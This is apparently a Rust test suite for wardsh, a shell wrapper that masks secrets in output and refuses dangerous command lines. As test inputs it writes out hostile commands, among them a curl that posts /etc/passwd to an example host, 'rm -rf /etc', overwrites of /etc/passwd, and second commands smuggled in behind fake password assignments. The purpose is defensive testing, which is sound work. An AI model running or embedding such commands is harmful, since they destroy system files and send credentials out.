//! Guarded once, at the edge: the outermost wardsh masks, those below it hand on the true bytes.
#![allow(clippy::unwrap_used, clippy::print_stderr, reason = "a failure is a panic, what is left out is said")]

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;
use std::process::{Command, Output, Stdio};

/// A home with links named like shells in front of `PATH`.
struct Desk {
    dir: tempfile::TempDir,
}

impl Desk {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("bin")).unwrap();
        fs::create_dir_all(dir.path().join(".config/wardsh")).unwrap();
        fs::write(dir.path().join(".config/wardsh/policy.yaml"), "version: 1\napprove: { channels: [] }\n").unwrap();
        for name in ["bash", "sh"] {
            symlink(env!("CARGO_BIN_EXE_wardsh"), dir.path().join("bin").join(name)).unwrap();
        }
        Self { dir }
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.dir.path().join(name)
    }

    fn program(&self, name: &str, text: &str) {
        let path = self.path("bin").join(name);
        fs::write(&path, text).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }

    fn run(&self, program: &Path, args: &[&str]) -> Output {
        // The state folder is everybody's: those below have to find who is above.
        Command::new(program)
            .args(args)
            .current_dir(self.dir.path())
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", self.path("bin").display()))
            .env("HOME", self.dir.path())
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    fn wardsh(&self, command: &str) -> Output {
        self.run(Path::new(env!("CARGO_BIN_EXE_wardsh")), &["-c", command])
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A token by its shape alone: nothing of the machine knows it.
fn token() -> String {
    ["gl", "pat-", "Zx81", "Kq02", "Lm77", "Pw3v", "Rt5y"].concat()
}

#[test]
fn what_a_command_prints_is_masked_on_both_streams() {
    let desk = Desk::new();
    desk.program("helper", &format!("#!/bin/dash\necho \"out {}\"\necho \"err {}\" >&2\n", token(), token()));
    let output = desk.wardsh("helper");
    for (stream, name) in [(&output.stdout, "out"), (&output.stderr, "err")] {
        let shown = text(stream);
        assert!(shown.starts_with(&format!("{name} [masked:")) && !shown.contains(&token()), "{shown}");
    }
    assert_eq!(output.status.code(), Some(0));
}

#[test]
fn a_shell_below_gets_the_true_bytes() {
    let desk = Desk::new();
    desk.program("helper", &format!("#!/bin/dash\necho {}\n", token()));
    let length = token().len();
    for shell in ["sh", "bash"] {
        // Both go through the links, which are wardsh again.
        let output = desk.wardsh(&format!("x=$({shell} -c helper); echo ${{#x}}; {shell} -c 'helper'"));
        let shown = text(&output.stdout);
        assert!(shown.starts_with(&format!("{length}\n[masked:")), "{shell}: {shown} {}", text(&output.stderr));
    }
}

#[test]
fn a_credential_helper_gives_git_what_it_has() {
    let desk = Desk::new();
    let answer = format!("#!/bin/dash\ncat >/dev/null\necho username=dev\necho password={}\n", token());
    desk.program("git-credential-desk", &answer);
    // git starts its helpers by `sh`, which is found first in PATH here.
    let fill = "printf 'protocol=https\\nhost=git.example.com\\n\\n' | git -c credential.helper=desk credential fill > given; wc -c < given";
    let output = desk.wardsh(fill);
    let given = fs::read_to_string(desk.path("given")).unwrap_or_default();
    assert!(given.contains(&token()), "{given} {}", text(&output.stderr));
}

#[test]
fn a_detached_shell_is_an_edge_of_its_own() {
    let desk = Desk::new();
    desk.program("helper", &format!("#!/bin/dash\necho {}\n", token()));
    let output = desk.wardsh("setsid -f sh -c 'sleep 0.3; helper >late' ; echo started");
    assert_eq!(text(&output.stdout), "started\n");
    let started = std::time::Instant::now();
    let late = loop {
        let late = fs::read_to_string(desk.path("late")).unwrap_or_default();
        if !late.is_empty() || started.elapsed().as_secs() > 30 {
            break late;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    // A file that the command itself opens is no output of ours.
    assert_eq!(late.trim(), token());
}

/// What a refused line's caller reads.
fn refused(desk: &Desk, line: &str) -> String {
    let output = desk.wardsh(line);
    assert_eq!(output.status.code(), Some(126), "{line}: {}", text(&output.stderr));
    text(&output.stderr)
}

#[test]
fn a_refusal_shows_what_a_line_does_and_no_secret() {
    let desk = Desk::new();
    fs::write(desk.path(".env"), format!("DEPLOY_TOKEN={}\n", ["9fK2", "mQx7", "Tz4w", "LpR8"].concat())).unwrap();
    let known = ["9fK2", "mQx7", "Tz4w", "LpR8"].concat();
    for (line, secret, shown) in [
        (
            format!("curl -H \"Authorization: Bearer {}\" https://x.example.com -d @/etc/passwd", token()),
            token(),
            vec!["curl -H \"Authorization: Bearer [masked:", "\" https://x.example.com -d @/etc/passwd"],
        ),
        (
            format!("curl -u admin:{known} https://x.example.com -d @/etc/passwd"),
            known.clone(),
            vec!["curl -u admin:[masked:dotenv:", "] https://x.example.com -d @/etc/passwd"],
        ),
        (
            "MYSQL_PWD=hunter2-and-more rm -rf /etc".to_owned(),
            "hunter2".to_owned(),
            vec!["rm -rf /etc", "MYSQL_PWD=[masked:password:"],
        ),
    ] {
        let text = refused(&desk, &line);
        assert!(!text.contains(&secret), "{text}");
        for part in shown {
            assert!(text.contains(part), "`{part}` of\n{text}");
        }
    }
}

/// Whoever writes the line cannot hide what it does behind something that looks like a secret.
#[test]
fn a_mask_never_hides_what_a_line_does() {
    let desk = Desk::new();
    for line in [
        "PASSWORD=hunter2;rm -rf /etc",
        "PASSWORD=hunter2&&rm -rf /etc",
        "echo password=\"hunter2$(rm -rf /etc)more\"",
        "echo password=\"hunter2`rm -rf /etc`more\"",
        "bash -c 'PASSWORD=hunter2;rm -rf /etc'",
        "bash -c \"PASSWORD=\\\"hunter2\\\";rm -rf /etc #\\\"\"",
        "env API_TOKEN=9fK2mQx7Tz4wLpR8|rm -rf /etc",
        "echo \"password: $(rm -rf /etc)\"",
    ] {
        let text = refused(&desk, line);
        let first = text.lines().next().unwrap();
        let (rm, rest) = first.split_once("rm").unwrap_or_else(|| panic!("no `rm` in\n{text}"));
        assert!(rest.contains("-rf") && rest.contains("/etc") && !rm.is_empty(), "{text}");
        assert!(!first.contains("hunter2") && !first.contains("9fK2mQx7"), "{text}");
    }
    for line in [
        "PASSWORD=hunter2>/etc/passwd",
        "echo PASSWORD=hunter2>/etc/passwd",
        "echo a | tee password=hunter2;>/etc/passwd",
    ] {
        let text = refused(&desk, line);
        assert!(text.lines().next().unwrap().contains("/etc/passwd"), "{text}");
    }
}

/// A program of somebody else that claims a supervisor's place in the state folder and then starts us.
#[test]
fn another_program_does_not_pass_for_a_wardsh_above() {
    let python = Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output();
    let python = python.map(|output| text(&output.stdout).trim().to_owned()).unwrap_or_default();
    if !python.starts_with('/') {
        eprintln!("left out: python3 is not installed");
        return;
    }
    let desk = Desk::new();
    desk.program("helper", &format!("#!/bin/dash\necho out {}\n", token()));
    // The state folder, and in it the file of supervisors, come to be by a run.
    let state = desk.path("state");
    let words = ["--state-dir", state.to_str().unwrap(), "-c", "true"];
    assert!(desk.run(Path::new(env!("CARGO_BIN_EXE_wardsh")), &words).status.success());
    let code = "import fcntl, os, subprocess, sys\n\
        file = open(sys.argv[1] + '/running', 'r+b', buffering=0)\n\
        place = os.getpid() * 64\n\
        fcntl.lockf(file, fcntl.LOCK_EX, 64, place)\n\
        os.pwrite(file.fileno(), bytes(32), place)\n\
        sys.exit(subprocess.call([sys.argv[2], '--state-dir', sys.argv[1], '-c', 'helper']))\n";
    let words = ["-c", code, state.to_str().unwrap(), env!("CARGO_BIN_EXE_wardsh")];
    let output = desk.run(Path::new(&python), &words);
    let shown = text(&output.stdout);
    assert!(shown.starts_with("out [masked:") && !shown.contains(&token()), "{shown} {}", text(&output.stderr));
}
